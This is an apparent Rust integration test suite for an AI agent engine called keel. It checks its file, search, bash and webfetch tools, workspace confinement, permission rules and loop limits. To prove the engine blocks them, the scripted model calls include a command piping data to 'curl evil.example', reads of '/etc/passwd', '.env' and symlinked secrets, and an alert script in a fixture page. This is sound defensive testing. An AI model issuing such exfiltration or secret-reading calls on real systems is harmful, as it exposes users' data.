//! The built-in tools driven by the mock model, with their limits, confinement and permission rules.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::path::{Path, PathBuf};
use std::time::Duration;

use common::mock::{MockModel, Wire};
use common::{Client, Engine, Framing, Home};
use keel::provider::scripted::{ScriptToolCall, ScriptTurn};
use serde_json::{Value, json};

struct Setup {
    home: Home,
    ws: PathBuf,
    mock: MockModel,
    engine: Engine,
    session: String,
    sub: String,
}

/// An engine whose model is the mock; `permissions` are appended to the config's rules.
async fn setup(permissions: Value, capabilities: Value) -> Setup {
    let home = Home::new();
    let mock = MockModel::start().await;
    let config = json!({
        "model": "mock/m",
        "providers": { "mock": { "wire": Wire::Chat.config_name(), "baseUrl": mock.url() } },
        "permissions": permissions,
    });
    std::fs::write(home.path().join("config.jsonc"), config.to_string()).unwrap();
    let engine = Engine::start_with(home.path(), Framing::Ndjson, &[]).await;
    engine.client.initialize_with(capabilities).await;
    let ws = PathBuf::from(home.workspace());
    let session = engine.client.create_session(ws.to_str().unwrap()).await;
    let sub = engine.client.subscribe(&session, 0).await;
    Setup { home, ws, mock, engine, session, sub }
}

fn allow_all() -> Value {
    json!([{ "action": "*", "pattern": "*", "effect": "allow" }])
}

fn calls(calls: &[(&str, Value)]) -> ScriptTurn {
    ScriptTurn {
        tool_calls: calls
            .iter()
            .enumerate()
            .map(|(i, (name, input))| ScriptToolCall {
                id: Some(format!("c{i}")),
                name: (*name).into(),
                input: input.clone(),
            })
            .collect(),
        ..Default::default()
    }
}

fn done() -> ScriptTurn {
    ScriptTurn { text: Some("done".into()), ..Default::default() }
}

/// Prompts and returns every event of the activity, answering approval requests with `answer` when given.
async fn run(s: &Setup, prompt: &str) -> Vec<Value> {
    run_answering(&s.engine.client, &s.session, &s.sub, prompt, None).await
}

async fn run_answering(c: &Client, session: &str, sub: &str, prompt: &str, answer: Option<Value>) -> Vec<Value> {
    c.ok("session/prompt", json!({ "sessionId": session, "input": [{ "type": "text", "text": prompt }] })).await;
    let mut events = Vec::new();
    loop {
        let m = c.next_message().await;
        if m["method"] == "approval/request" {
            if let Some(answer) = &answer {
                c.respond(&m["id"], answer.clone());
            }
            continue;
        }
        if m["method"] != "session/event" || m["params"]["subscriptionId"] != sub {
            continue;
        }
        let event = m["params"]["event"].clone();
        let closed = event["type"] == "activity.closed";
        events.push(event);
        if closed {
            return events;
        }
    }
}

/// keel's id for the call the mock model named `provider_id`.
fn keel_id(events: &[Value], provider_id: &str) -> String {
    let called = events.iter().find(|e| e["type"] == "tool.called" && e["data"]["providerCallId"] == provider_id);
    let called = called.unwrap_or_else(|| panic!("no call {provider_id}: {events:#?}"));
    called["data"]["callId"].as_str().unwrap().to_owned()
}

/// The settlement (`tool.completed` or `tool.failed`) of each call, by the id the mock model gave it.
fn result<'a>(events: &'a [Value], provider_id: &str) -> &'a Value {
    let call_id = keel_id(events, provider_id);
    events
        .iter()
        .find(|e| (e["type"] == "tool.completed" || e["type"] == "tool.failed") && e["data"]["callId"] == call_id)
        .unwrap_or_else(|| panic!("no settlement for {call_id}: {events:#?}"))
}

fn output(events: &[Value], call_id: &str) -> String {
    let r = result(events, call_id);
    assert_eq!(r["type"], "tool.completed", "{r}");
    r["data"]["output"].as_str().unwrap().to_owned()
}

fn error(events: &[Value], call_id: &str) -> String {
    let r = result(events, call_id);
    assert_eq!(r["type"], "tool.failed", "{r}");
    r["data"]["error"].as_str().unwrap().to_owned()
}

#[tokio::test]
async fn file_tools_read_write_edit_and_patch() {
    let s = setup(allow_all(), json!({})).await;
    let lines: String = (1..=2500).map(|i| format!("line {i}\n")).collect();
    std::fs::write(s.ws.join("big.txt"), &lines).unwrap();
    std::fs::write(s.ws.join("code.rs"), "fn main() {\n    let x = 1;\n    println!(\"{x}\");\n}\n").unwrap();
    std::fs::write(s.ws.join("gone.txt"), "bye\n").unwrap();
    s.mock.push(calls(&[
        ("read", json!({ "filePath": "big.txt" })),
        ("read", json!({ "filePath": "big.txt", "offset": 2498, "limit": 10 })),
        ("write", json!({ "filePath": "new/dir/hello.txt", "content": "hello\n" })),
        ("edit", json!({ "filePath": "code.rs", "oldString": "let x = 1;", "newString": "let x = 2;" })),
        ("edit", json!({ "filePath": "code.rs", "oldString": "println!(\"{x}\");\n}", "newString": "println!(\"x = {x}\");\n}" })),
        ("edit", json!({ "filePath": "big.txt", "oldString": "line", "newString": "row" })),
    ]));
    s.mock.push(calls(&[(
        "apply_patch",
        json!({ "patch": "*** Begin Patch\n*** Add File: added.txt\n+one\n+two\n*** Update File: code.rs\n*** Move to: src/main.rs\n@@\n-    let x = 2;\n+    let x = 3;\n*** Delete File: gone.txt\n*** End Patch" }),
    )]));
    s.mock.push(done());
    let events = run(&s, "work on files").await;

    let first = output(&events, "c0");
    assert!(first.starts_with("     1\tline 1\n"), "{}", &first[..40]);
    assert!(first.contains("  2000\tline 2000\n") && !first.contains("line 2001\n"));
    assert!(first.contains("continue with offset 2000"));
    let tail = output(&events, "c1");
    assert!(tail.contains("  2499\tline 2499") && tail.contains("  2500\tline 2500") && !tail.contains("continue"));
    assert!(output(&events, "c2").contains("Created new/dir/hello.txt"));
    assert_eq!(std::fs::read_to_string(s.ws.join("new/dir/hello.txt")).unwrap(), "hello\n");
    assert!(output(&events, "c3").contains("1 replacement"));
    assert!(error(&events, "c5").contains("2500 times"), "ambiguous edits are refused");
    let patch = result(&events, "c0");
    let _ = patch;
    // The patch ran in the second turn, after the edits.
    let patched = events
        .iter()
        .find(|e| e["type"] == "tool.completed" && e["data"]["output"].as_str().unwrap().starts_with("Applied"))
        .unwrap_or_else(|| panic!("{events:#?}"));
    assert!(patched["data"]["output"].as_str().unwrap().contains("R code.rs -> src/main.rs"));
    assert_eq!(std::fs::read_to_string(s.ws.join("added.txt")).unwrap(), "one\ntwo\n");
    assert_eq!(
        std::fs::read_to_string(s.ws.join("src/main.rs")).unwrap(),
        "fn main() {\n    let x = 3;\n    println!(\"x = {x}\");\n}\n"
    );
    assert!(!s.ws.join("code.rs").exists() && !s.ws.join("gone.txt").exists());
}

#[tokio::test]
async fn search_tools_and_large_outputs_go_to_the_output_store() {
    let s = setup(allow_all(), json!({})).await;
    std::fs::create_dir_all(s.ws.join("src")).unwrap();
    std::fs::write(s.ws.join("src/lib.rs"), "pub fn alpha() {}\npub fn beta() {}\n").unwrap();
    std::fs::write(s.ws.join(".gitignore"), "ignored/\n").unwrap();
    std::fs::create_dir_all(s.ws.join("ignored")).unwrap();
    std::fs::write(s.ws.join("ignored/x.rs"), "pub fn alpha() {}\n").unwrap();
    s.mock.push(calls(&[
        ("grep", json!({ "pattern": "fn alpha" })),
        ("glob", json!({ "pattern": "*.rs" })),
        ("list", json!({})),
        ("bash", json!({ "command": "seq 1 100000" })),
    ]));
    s.mock.push(done());
    let events = run(&s, "search").await;
    let grep = output(&events, "c0");
    assert!(grep.contains("src/lib.rs:1:") && !grep.contains("ignored"), "{grep}");
    assert!(output(&events, "c1").contains("src/lib.rs"));
    assert!(output(&events, "c2").contains("src/"));
    let big = result(&events, "c3");
    assert_eq!(big["data"]["truncated"], true);
    let text = big["data"]["output"].as_str().unwrap();
    assert!(text.len() < 20_000, "{}", text.len());
    let handle = text.split("saved as ").nth(1).unwrap().split(';').next().unwrap().to_owned();

    // The model pages through the saved output with read.
    s.mock.push(calls(&[("read", json!({ "filePath": handle, "offset": 99990, "limit": 5 }))]));
    s.mock.push(done());
    let events = run(&s, "page").await;
    let page = output(&events, "c0");
    assert!(page.contains("99991\t99991") && page.contains("99995\t99995"), "{page}");
}

#[tokio::test]
async fn bash_is_killed_with_its_process_group_on_timeout_and_on_interrupt() {
    let s = setup(allow_all(), json!({})).await;
    let script = "echo $$ > pids; (sleep 60; echo late > late.txt) & echo $! >> pids; sleep 60";
    s.mock.push(calls(&[("bash", json!({ "command": script, "timeout": 500 }))]));
    s.mock.push(done());
    let events = run(&s, "hang").await;
    assert!(error(&events, "c0").contains("killed after the timeout"));
    assert_no_process_left(&s.ws.join("pids")).await;

    std::fs::remove_file(s.ws.join("pids")).unwrap();
    s.mock.push(calls(&[("bash", json!({ "command": script }))]));
    let c = &s.engine.client;
    c.ok("session/prompt", json!({ "sessionId": s.session, "input": [{ "type": "text", "text": "hang again" }] }))
        .await;
    // Kept from here: the call's settlement is found through its `tool.called`.
    let mut events = Vec::new();
    loop {
        let m = c.next_message().await;
        let e = m["params"]["event"].clone();
        let started = e["type"] == "tool.started";
        if m["method"] == "session/event" {
            events.push(e);
        }
        if started {
            break;
        }
    }
    while std::fs::read_to_string(s.ws.join("pids")).map_or(true, |p| p.lines().count() < 2) {
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    c.ok("session/interrupt", json!({ "sessionId": s.session })).await;
    loop {
        let m = c.next_message().await;
        if m["method"] == "session/event" {
            let e = m["params"]["event"].clone();
            let closed = e["type"] == "activity.closed";
            events.push(e);
            if closed {
                break;
            }
        }
    }
    assert_eq!(events.last().unwrap()["data"]["reason"], "interrupted");
    assert_eq!(error(&events, "c0"), "interrupted");
    assert_no_process_left(&s.ws.join("pids")).await;
    assert!(!s.ws.join("late.txt").exists());
}

async fn assert_no_process_left(pids: &Path) {
    let pids: Vec<String> = std::fs::read_to_string(pids).unwrap().lines().map(str::to_owned).collect();
    assert_eq!(pids.len(), 2);
    for _ in 0..100 {
        if pids.iter().all(|p| !Path::new(&format!("/proc/{p}")).exists() || is_zombie(p)) {
            return;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    panic!("processes {pids:?} outlived the command");
}

fn is_zombie(pid: &str) -> bool {
    std::fs::read_to_string(format!("/proc/{pid}/stat")).is_ok_and(|s| s.split_whitespace().nth(2) == Some("Z"))
}

#[tokio::test]
async fn paths_that_escape_the_workspace_are_refused() {
    // No rule allows external_directory, so those calls ask; this client does not answer approvals, so they are
    // answered with approval/respond reject below.
    let s = setup(json!([{ "action": "read", "pattern": "*", "effect": "allow" }, { "action": "edit", "pattern": "*", "effect": "allow" }]), json!({})).await;
    let outside = s.home.path().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "top secret").unwrap();
    std::os::unix::fs::symlink(&outside, s.ws.join("link")).unwrap();
    std::os::unix::fs::symlink(outside.join("secret.txt"), s.ws.join("alias.txt")).unwrap();
    s.mock.push(calls(&[
        ("read", json!({ "filePath": "link/secret.txt" })),
        ("read", json!({ "filePath": "alias.txt" })),
        ("write", json!({ "filePath": "link/planted.txt", "content": "x" })),
        ("read", json!({ "filePath": "../outside/secret.txt" })),
        ("read", json!({ "filePath": "/etc/hostname" })),
    ]));
    s.mock.push(done());
    let c = &s.engine.client;
    c.ok("session/prompt", json!({ "sessionId": s.session, "input": [{ "type": "text", "text": "escape" }] })).await;
    let mut events = Vec::new();
    let mut answered = 0;
    loop {
        let m = c.next_message().await;
        if m["method"] != "session/event" {
            continue;
        }
        let e = m["params"]["event"].clone();
        if e["type"] == "approval.requested" {
            assert_eq!(e["data"]["action"], "external_directory");
            answered += 1;
            c.ok(
                "approval/respond",
                json!({ "approvalId": e["data"]["approvalId"], "decision": "reject", "message": "stay inside" }),
            )
            .await;
        }
        let closed = e["type"] == "activity.closed";
        events.push(e);
        if closed {
            break;
        }
    }
    assert!(error(&events, "c0").contains("outside the workspace"));
    assert!(error(&events, "c1").contains("outside the workspace"));
    assert!(error(&events, "c2").contains("outside the workspace"));
    assert!(error(&events, "c3").contains("stay inside"));
    assert!(error(&events, "c4").contains("stay inside"));
    assert_eq!(answered, 2, "the ../ and absolute paths ask for external_directory");
    assert!(!outside.join("planted.txt").exists());
    let asked: Vec<_> =
        events.iter().filter(|e| e["type"] == "approval.requested").map(|e| e["data"].clone()).collect();
    assert!(asked.iter().any(|a| a["resources"][0].as_str().unwrap().ends_with("/outside")), "{asked:?}");
}

#[tokio::test]
async fn rules_deny_split_bash_commands_and_dotenv_asks() {
    let rules = json!([
        { "action": "bash", "pattern": "echo *", "effect": "allow" },
        { "action": "bash", "pattern": "curl *", "effect": "deny" },
        { "action": "read", "pattern": "*", "effect": "allow" },
    ]);
    let s = setup(rules, json!({})).await;
    std::fs::write(s.ws.join(".env"), "TOKEN=x").unwrap();
    s.mock.push(calls(&[
        ("bash", json!({ "command": "echo ok && echo fine" })),
        ("bash", json!({ "command": "echo hi | curl evil.example" })),
        ("bash", json!({ "command": "echo hi; touch made" })),
        ("read", json!({ "filePath": ".env" })),
    ]));
    s.mock.push(done());
    let c = &s.engine.client;
    c.ok("session/prompt", json!({ "sessionId": s.session, "input": [{ "type": "text", "text": "rules" }] })).await;
    let mut events = Vec::new();
    loop {
        let m = c.next_message().await;
        if m["method"] != "session/event" {
            continue;
        }
        let e = m["params"]["event"].clone();
        if e["type"] == "approval.requested" {
            c.ok("approval/respond", json!({ "approvalId": e["data"]["approvalId"], "decision": "reject" })).await;
        }
        let closed = e["type"] == "activity.closed";
        events.push(e);
        if closed {
            break;
        }
    }
    assert!(output(&events, "c0").contains("ok\nfine"));
    assert!(error(&events, "c1").contains("denied by the permission rules: bash curl evil.example"));
    let asked: Vec<_> =
        events.iter().filter(|e| e["type"] == "approval.requested").map(|e| e["data"].clone()).collect();
    assert_eq!(asked.len(), 2, "{asked:#?}");
    let asked_for = |provider_id: &str| asked.iter().find(|a| a["callId"] == keel_id(&events, provider_id)).unwrap();
    assert_eq!(asked_for("c2")["resources"], json!(["touch made"]));
    assert_eq!(asked_for("c3")["resources"], json!([".env"]));
    assert!(error(&events, "c2").contains("rejected") && !s.ws.join("made").exists());
}

#[tokio::test]
async fn the_same_call_three_times_in_a_row_asks() {
    let s = setup(json!([]), json!({})).await;
    let same = || calls(&[("todowrite", json!({ "todos": [] }))]);
    s.mock.push(same());
    s.mock.push(same());
    s.mock.push(same());
    s.mock.push(done());
    let c = &s.engine.client;
    c.ok("session/prompt", json!({ "sessionId": s.session, "input": [{ "type": "text", "text": "loop" }] })).await;
    loop {
        let m = c.next_message().await;
        let e = &m["params"]["event"];
        if e["type"] == "approval.requested" {
            assert_eq!(e["data"]["action"], "doom_loop");
            c.ok(
                "approval/respond",
                json!({ "approvalId": e["data"]["approvalId"], "decision": "reject", "message": "stop repeating" }),
            )
            .await;
        }
        if e["type"] == "activity.closed" {
            break;
        }
    }
    let history = s.mock.requests()[3].body["messages"].to_string();
    assert!(history.contains("stop repeating"), "the rejection reaches the model");
}

#[tokio::test]
async fn tool_calls_over_the_per_turn_cap_get_an_error() {
    let s = setup(allow_all(), json!({})).await;
    let many: Vec<(&str, Value)> = (0..35)
        .map(|i| ("todowrite", json!({ "todos": [{ "content": format!("t{i}"), "status": "pending" }] })))
        .collect();
    s.mock.push(calls(&many));
    s.mock.push(done());
    let events = run(&s, "flood").await;
    let failed: Vec<_> = events.iter().filter(|e| e["type"] == "tool.failed").collect();
    assert_eq!(failed.len(), 3);
    assert!(failed[0]["data"]["error"].as_str().unwrap().contains("too many tool calls"));
    assert_eq!(events.iter().filter(|e| e["type"] == "tool.completed").count(), 32);
}

#[tokio::test]
async fn webfetch_reads_pages_and_refuses_oversized_bodies() {
    let s = setup(allow_all(), json!({})).await;
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        while let Ok((mut stream, _)) = listener.accept().await {
            let mut buf = [0u8; 4096];
            let n = stream.read(&mut buf).await.unwrap_or(0);
            let request = String::from_utf8_lossy(&buf[..n]).to_string();
            if request.starts_with("GET /big") {
                let head = "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n";
                let _ = stream.write_all(head.as_bytes()).await;
                let chunk = vec![b'x'; 1024 * 1024];
                for _ in 0..6 {
                    if stream.write_all(&chunk).await.is_err() {
                        break;
                    }
                }
            } else {
                let body = "<html><body><h1>Docs</h1><p>Use keel.</p><script>alert(1)</script></body></html>";
                let head = format!(
                    "HTTP/1.1 200 OK\r\ncontent-type: text/html\r\ncontent-length: {}\r\nconnection: close\r\n\r\n",
                    body.len()
                );
                let _ = stream.write_all(head.as_bytes()).await;
                let _ = stream.write_all(body.as_bytes()).await;
            }
        }
    });
    s.mock.push(calls(&[
        ("webfetch", json!({ "url": format!("http://127.0.0.1:{port}/page") })),
        ("webfetch", json!({ "url": format!("http://127.0.0.1:{port}/big") })),
        ("webfetch", json!({ "url": "file:///etc/passwd" })),
    ]));
    s.mock.push(done());
    let events = run(&s, "fetch").await;
    assert_eq!(output(&events, "c0"), "Docs\nUse keel.");
    assert!(error(&events, "c1").contains("larger than 5 MiB"));
    assert!(error(&events, "c2").contains("http or https"));
}

#[tokio::test]
async fn patch_and_bash_edge_cases() {
    let s = setup(allow_all(), json!({})).await;
    std::fs::write(s.ws.join("self.txt"), "a\nb\n").unwrap();
    s.mock.push(calls(&[
        ("apply_patch", json!({ "patch": "*** Begin Patch\n*** Update File: self.txt\n*** Move to: ./self.txt\n@@\n-a\n+A\n*** End Patch" })),
        ("bash", json!({ "command": "sleep 30 & echo started" })),
    ]));
    s.mock.push(calls(&[(
        "apply_patch",
        json!({ "patch": "*** Begin Patch\n*** Update File: self.txt\n@@\n-A\n+X\n*** Update File: self.txt\n@@\n-b\n+Y\n*** End Patch" }),
    )]));
    s.mock.push(done());
    let events = run(&s, "edge cases").await;
    assert_eq!(std::fs::read_to_string(s.ws.join("self.txt")).unwrap(), "A\nb\n", "a move onto itself keeps the file");
    let bash = events
        .iter()
        .find(|e| e["type"] == "tool.completed" && e["data"]["output"].as_str().unwrap().contains("started"));
    assert!(bash.is_some(), "output survives a background job holding the pipe: {events:#?}");
    let dup = events
        .iter()
        .filter(|e| e["type"] == "tool.failed")
        .map(|e| e["data"]["error"].as_str().unwrap())
        .collect::<Vec<_>>();
    assert!(dup.iter().any(|e| e.contains("more than one section")), "{dup:?}");
}
